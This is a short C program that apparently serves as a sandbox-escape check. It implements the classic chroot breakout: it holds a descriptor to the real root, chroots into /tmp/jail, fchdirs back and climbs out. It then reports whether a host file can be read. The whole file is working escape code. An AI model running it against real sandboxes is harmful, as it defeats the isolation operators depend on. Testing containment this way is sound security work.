/* The classic escape: hold the root by a descriptor, chroot below it, step out, climb. Argument: a file of the host.
 * Prints ESCAPED if the file can be read. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	int root = open("/", O_RDONLY | O_DIRECTORY);
	mkdir("/tmp/jail", 0755);
	if (root < 0 || chroot("/tmp/jail") != 0) {
		perror("chroot");
		return 1;
	}
	if (fchdir(root) != 0) {
		perror("fchdir");
		return 1;
	}
	for (int i = 0; i < 256; i++)
		if (chdir("..") != 0)
			break;
	if (chroot(".") != 0) {
		perror("chroot");
		return 1;
	}
	int file = open(argv[1], O_RDONLY);
	puts(file >= 0 ? "ESCAPED" : "contained");
	return 0;
}
